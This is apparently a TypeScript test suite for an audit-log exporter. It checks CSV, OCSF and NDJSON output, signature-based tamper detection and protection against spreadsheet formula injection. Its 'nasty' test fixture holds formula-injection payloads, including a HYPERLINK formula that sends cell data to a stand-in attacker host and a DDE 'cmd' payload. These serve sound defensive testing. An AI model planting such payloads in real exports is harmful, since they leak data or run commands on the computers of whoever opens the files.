import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { Ajv2020, type ValidateFunction } from 'ajv/dist/2020.js';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { newTenantId } from '#infra/kernel/ids.ts';
import { auditWorld, someRecords, type AuditWorld } from '#test/audit-world.ts';
import { csvColumns, csvHeading } from './export-csv.ts';
import { exportFile, fileFormats, type FileFormat } from './export-file.ts';
import type { Selection } from './export-format.ts';
import { exportAudit, openExport, type BegunExport, type ExportOptions } from './export.ts';
import { manifestOf, manifestOfFile } from './manifest.ts';
import type { Report } from './report.ts';
import { verifyExport } from './verify.ts';
import { verifyPair } from './verify-pair.ts';

let world: AuditWorld;
let key: string;
const tenant = newTenantId();
const other = newTenantId();
const begun: BegunExport = { size: 640, exportedAt: '2026-03-04T05:06:07.008Z' };
/** What an attacker might put into a reason, hoping that it is opened with a spreadsheet, or grepped. */
const nasty = [
  '=HYPERLINK("http://evil.example/?"&A1,"see")',
  '+1',
  '-2',
  '@SUM(1)',
  '\t=1',
  '\r\n=1,"=1","',
  'a;=cmd|"/C calc"!A0',
  '\u{ff1d}1',
  'x",=1',
  "x','=1",
  ' =1',
  '\u2028{"a":1}\u0000\u009b',
  'caf\u00e9 \u{1f3b5}',
];

beforeAll(async () => {
  world = await auditWorld();
  const sequencer = world.start();
  await world.write(tenant, someRecords(tenant, 300));
  await world.sealed();
  await world.write(tenant, [
    ...nasty.flatMap((reason) => someRecords(tenant, 1, { reason, outcome: 'denied', rule: reason, target: reason })),
    ...someRecords(tenant, 1, { kind: 'change', action: 'policy.write', outcome: 'succeeded', target: 'guild:1' }),
    ...someRecords(tenant, 1, { kind: 'lifecycle', action: 'tenant.create', outcome: 'failed', reason: 'no' }),
    ...someRecords(tenant, 1, {
      kind: 'security',
      action: 'session.sign-in',
      actor: { type: 'operator', id: 'operator:anna' },
      onBehalfOf: { type: 'discord-member', id: '9' },
      decision: 'dec_1',
      policyVersion: '7',
      requestId: 'req_1',
      transaction: 'txn_1',
      channel: '5',
      command: 'skip',
    }),
  ]);
  await world.api.inTenant(tenant, (transaction) =>
    transaction.query("insert into audit_journal (tenant_id, record) values ($1, '=not a record')", [tenant]),
  );
  await world.write(tenant, someRecords(tenant, begun.size - 301 - nasty.length - 3));
  await world.sealed();
  // What is sealed later is in none of the exports that started before.
  await world.write(tenant, someRecords(tenant, 5));
  await world.write(other, someRecords(other, 3));
  await world.sealed();
  await sequencer[Symbol.asyncDispose]();
  key = (await open()).header.key;
});
afterAll(() => world[Symbol.asyncDispose]());

const open = (more: Partial<ExportOptions> = {}) => openExport({ database: world.api, tenant, begun, ...more });

async function written(format: FileFormat, more: Partial<ExportOptions> = {}, offset = 0): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of exportFile(await open(more), format, offset)) chunks.push(chunk);
  return Buffer.concat(chunks);
}

async function* chunked(bytes: Buffer): AsyncGenerator<Buffer> {
  for (let at = 0; at < bytes.length; at += 10_007) yield bytes.subarray(at, at + 10_007);
}
const verify = (bytes: Buffer | string, earlier?: string) =>
  verifyExport(chunked(Buffer.from(bytes)), { key, ...(earlier === undefined ? {} : { earlier }) });
const linesOf = (bytes: Buffer) => bytes.toString('utf8').split(/(?<=\n)/);
const notARecord = expect.objectContaining({ kind: 'not-a-record' });

const selections: readonly { name: string; selection: Selection; records: number }[] = [
  { name: 'the whole log', selection: {}, records: begun.size },
  // A leaf that is not a record belongs to every selection.
  { name: 'a selection', selection: { outcome: 'denied' }, records: nasty.length + 1 },
  { name: 'a selection of nothing', selection: { action: 'nothing' }, records: 1 },
];

describe.each(fileFormats)('as %s', (format) => {
  test.each(selections)('$name verifies by the file alone, but for the leaf that is no record', async (given) => {
    const report = await verify(await written(format, { selection: given.selection }));
    expect(report.problems).toEqual([notARecord]);
    expect(report).toMatchObject({ records: given.records, size: begun.size, tenant });
  });

  test('it verifies gzipped, also in several members, and says so when the gzip is cut', async () => {
    const bytes = await written(format);
    const halves = [gzipSync(bytes.subarray(0, 5_000)), gzipSync(bytes.subarray(5_000))];
    expect((await verify(Buffer.concat(halves))).problems).toEqual([notARecord]);
    const cut = (await verify(gzipSync(bytes).subarray(0, -200))).problems;
    expect(cut).toContainEqual(expect.objectContaining({ kind: 'truncated' }));
  });

  test('it is the same bytes again, from any place, though the log has grown', async () => {
    const options = { selection: { outcome: 'denied' as const } };
    const bytes = await written(format, options);
    for (const offset of [1, 777, bytes.length - 1, bytes.length]) {
      expect((await written(format, { ...options, pageRows: 100 }, offset)).equals(bytes.subarray(offset))).toBe(true);
    }
    await expect(written(format, options, bytes.length + 1)).rejects.toMatchObject({ code: 'audit.beyond-end' });
  });

  test('its manifest tells the file by its length and digest, and what is in it', async () => {
    const bytes = await written(format, { selection: { outcome: 'denied' } });
    const manifest = await manifestOf(await open({ selection: { outcome: 'denied' } }), format);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    expect(manifest.file).toEqual({ format, bytes: bytes.length, sha256 });
    expect(manifest).toMatchObject({
      tenant,
      key,
      count: nasty.length + 1,
      whole: false,
      selection: { outcome: 'denied' },
      range: { first: 300, last: 316 },
      exportedAt: begun.exportedAt,
    });
    expect(await manifestOfFile(chunked(bytes))).toEqual(manifest);
    expect(await manifestOfFile(chunked(gzipSync(bytes)))).toEqual(manifest);
    expect(manifest.checkpoint).toContain(`\n${begun.size}\n`);
  });

  test('an edited record, a removed, a swapped and an added one are found', async () => {
    const lines = linesOf(await written(format, { selection: { outcome: 'denied' } }));
    const ofOther = linesOf(await written(format, { tenant: other, begun: { ...begun, size: 3 } }));
    const at = format === 'csv' ? 4 : 3;
    const find = async (changed: readonly string[]) =>
      (await verify(changed.join(''))).problems.map(({ kind }) => kind);
    expect(await find(lines.toSpliced(at, 1))).toContain('removed');
    expect(await find(lines.with(at, lines[at + 1] ?? '').with(at + 1, lines[at] ?? ''))).toContain('reordered');
    expect(await find(lines.toSpliced(at, 0, ofOther[at] ?? ''))).toContain('foreign-record');
    expect(await find(lines.slice(0, -1))).toContain('truncated');
    expect(await find(lines.with(at, (lines[at] ?? '').replace(/denied|ZGVuaWVk/, 'failed')))).toContain('edited');
  });
});

test('what stands beside the evidence cannot be changed unseen', async () => {
  const csv = (await written('csv')).toString('utf8').replace('record,2,2026-', 'record,2,2025-');
  expect((await verify(csv)).problems).toContainEqual(expect.objectContaining({ kind: 'edited', index: 2, line: 5 }));
  const ocsf = (await written('ocsf')).toString('utf8').replace('"status":"Failure"', '"status":"Success"');
  expect((await verify(ocsf)).problems).toContainEqual(expect.objectContaining({ kind: 'edited', index: 300 }));
});

test('shows in every format that the log continues an earlier checkpoint', async () => {
  const { header } = await open({ begun: { ...begun, size: 300 } });
  for (const format of fileFormats) {
    for (const selection of [{}, { outcome: 'denied' as const }]) {
      const report = await verify(await written(format, { selection, consistentWith: 300 }), header.checkpoint);
      expect(report.problems).toEqual([notARecord]);
    }
  }
});

/** RFC 4180, section 2, and nothing else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  let row: string[] = [];
  while (cell.lastIndex < text.length) {
    const [, quoted, plain, end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error(`not CSV after ${rows.length} rows`);
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('the CSV', () => {
  test('is RFC 4180 with the columns that its first line names, each row a line', async () => {
    const text = (await written('csv')).toString('utf8');
    const rows = parseCsv(text);
    expect(rows.every(({ length }) => length === csvColumns.length)).toBe(true);
    expect(rows[0]).toEqual([...csvColumns]);
    expect(text.startsWith(csvHeading)).toBe(true);
    expect(text.match(/[\r\n\u2028\u2029]/g)?.length).toBe(2 * rows.length);
  });

  test('holds nothing that a spreadsheet would compute, wherever it cuts the cells', async () => {
    const text = (await written('csv')).toString('utf8');
    for (const cell of parseCsv(text).flat())
      expect(cell).not.toMatch(/(^|[;,|"'])[^\S']*(?<!')[=+\-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}]/u);
    expect(text).toContain(`"'+1"`);
  });

  test('holds the same export in its last column', async () => {
    const rows = parseCsv((await written('csv')).toString('utf8')).slice(1);
    const lines = rows.map((row) => Buffer.from(row.at(-1) ?? '', 'base64').toString('utf8'));
    expect(`${lines.join('\n')}\n`).toBe((await written('ndjson')).toString('utf8'));
  });
});

describe('the OCSF', () => {
  const schemas = new Map<number, ValidateFunction>();
  beforeAll(async () => {
    const folder = path.join(import.meta.dirname, 'testing/ocsf-1.8.0');
    const classes = { api_activity: 6003, entity_management: 3004, base_event: 0 };
    const ajv = new Ajv2020({ strict: false, allErrors: true, validateFormats: false });
    for (const [name, uid] of Object.entries(classes))
      schemas.set(uid, ajv.compile(JSON.parse(await readFile(path.join(folder, `${name}.json`), 'utf8'))));
  });

  test('is made of events that the published schema of their class takes', async () => {
    const seen = new Map<number, number>();
    for (const line of linesOf(await written('ocsf'))) {
      const event = JSON.parse(line) as { class_uid: number };
      const validate = schemas.get(event.class_uid);
      validate?.(event);
      expect(validate?.errors ?? null, line).toBeNull();
      expect(validate).toBeDefined();
      seen.set(event.class_uid, (seen.get(event.class_uid) ?? 0) + 1);
    }
    expect([...seen.keys()].toSorted()).toEqual([0, 3004, 6003]);
    expect(seen.get(3004)).toBe(2);
  });

  test('would not be taken with a field that the schema does not know, or without one that it wants', async () => {
    const line = linesOf(await written('ocsf', { selection: { outcome: 'denied' } })).find((text) =>
      text.includes('"class_uid":6003'),
    );
    const event = JSON.parse(line ?? '') as Record<string, unknown>;
    const validate = schemas.get(6003);
    expect(validate?.({ ...event, more: 1 })).toBe(false);
    const { actor: _actor, ...without } = event;
    expect(validate?.(without)).toBe(false);
  });

  test('says who did what on whose behalf, how it ended, and under which decision', async () => {
    const events = linesOf(await written('ocsf'))
      .slice(0, -1)
      .map((line) => JSON.parse(line));
    expect(events.find(({ activity_name }) => activity_name === 'Create')).toMatchObject({
      class_uid: 3004,
      type_uid: 300401,
      status: 'Failure',
      comment: 'no',
      entity: { type: 'guild', uid: '80351110224678912' },
      metadata: { event_code: 'tenant.create' },
    });
    expect(events.find(({ severity_id }) => severity_id === 3)).toMatchObject({
      class_uid: 6003,
      actor: { user: { uid: '9', type: 'discord-member' } },
      authorizations: [{ decision: 'dec_1', policy: { version: '7' } }],
      api: { operation: 'session.sign-in', request: { uid: 'req_1' } },
      action_id: 1,
      metadata: { correlation_uid: 'txn_1', log_name: `bailiwick.test/tenant/${tenant}` },
    });
  });

  test('holds the same export as raw data', async () => {
    const lines = linesOf(await written('ocsf')).map((line) => JSON.parse(line) as { raw_data: string });
    expect(lines.map((line) => `${line.raw_data}\n`).join('')).toBe((await written('ndjson')).toString('utf8'));
  });
});

test('the lines of an export are those of its NDJSON file', async () => {
  const lines: string[] = [];
  for await (const line of exportAudit({ database: world.api, tenant, begun })) lines.push(line);
  expect(lines.join('')).toBe((await written('ndjson')).toString('utf8'));
});

describe('two exports', () => {
  const bytesOf = async (format: FileFormat, size: number, more: Partial<ExportOptions> = {}) => {
    const bytes = await written(format, { begun: { ...begun, size }, ...more });
    return () => chunked(bytes);
  };
  const kinds = (reports: readonly Report[]) =>
    reports.map(({ problems }) => problems.map(({ kind }) => kind).filter((kind) => kind !== 'not-a-record'));

  test('of one log agree, whichever is given first and whatever their formats', async () => {
    const [early, late] = [await bytesOf('csv', 300), await bytesOf('ocsf', begun.size)];
    expect(kinds(await verifyPair([early, late], key))).toEqual([[], []]);
    expect(kinds(await verifyPair([late, early], key))).toEqual([[], []]);
    const denied = { selection: { outcome: 'denied' as const } };
    const proved = await bytesOf('csv', begun.size, { ...denied, consistentWith: 300 });
    expect(kinds(await verifyPair([proved, early], key))).toEqual([[], []]);
    const same = await bytesOf('ndjson', begun.size, denied);
    expect(kinds(await verifyPair([same, late], key))).toEqual([[], []]);
  });

  test('a selection without a proof that it continues the other does not pass', async () => {
    const selection = await bytesOf('csv', begun.size, { selection: { outcome: 'denied' } });
    expect(kinds(await verifyPair([await bytesOf('ndjson', 300), selection], key))).toEqual([[], ['inconsistent']]);
  });

  test('of two logs do not pass', async () => {
    const elsewhere = await bytesOf('csv', 3, { tenant: other });
    const [, second] = await verifyPair([await bytesOf('csv', 300), elsewhere], key);
    expect(second.problems).toContainEqual(expect.objectContaining({ kind: 'wrong-key' }));
  });
});
